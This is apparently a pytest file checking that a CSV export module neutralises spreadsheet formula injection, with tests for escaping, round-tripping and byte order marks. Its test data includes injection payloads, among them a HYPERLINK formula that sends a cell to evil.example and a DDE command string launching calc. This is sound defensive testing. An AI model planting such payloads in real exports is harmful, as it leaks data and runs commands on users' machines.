"""Spreadsheet cells (``core.exports``): a text cell a spreadsheet would run as a formula is
written with a ``'`` before it; numbers, and text that is only a plain number, are left alone;
a neutralised cell reads back as it was."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autocollect.core.exports import (
    FORMULA_STARTS,
    csv_bytes,
    neutralised_text,
    safe_cell,
    write_csv,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        '＝HYPERLINK("http://evil.example")',
        "＋1",
        "－1",
        "＠SUM(1)",
        "-1e5",
        "-",
        "=",
    ],
)
def test_a_formula_start_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.50", "+3", "-7", "0", "12.5", "张伟", "", "a=b", " =1"])
def test_plain_numbers_and_ordinary_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-1250, Decimal("-12.50"), -12.5, None, True, date(2026, 1, 2)])
def test_typed_values_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_non_finite_number_is_text() -> None:
    assert safe_cell(float("-inf")) == "'-inf"


@given(st.text())
def test_no_written_cell_starts_a_formula_and_every_cell_reads_back(text: str) -> None:
    cell = safe_cell(text)
    assert (
        not cell or cell[0] not in FORMULA_STARTS or cell.lstrip("+-").replace(".", "", 1).isdigit()
    )
    if cell != text:
        assert neutralised_text(cell) == text


def test_the_csv_writers_write_safe_cells_with_a_byte_order_mark() -> None:
    rows: list[list[object]] = [["note", "amount"], ["=1+1", "-12.50"], [None, 5]]
    data = csv_bytes(rows)

    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read == [["note", "amount"], ["'=1+1", "-12.50"], ["", "5"]]
    buffer = io.StringIO()
    assert write_csv(buffer, rows) == 3
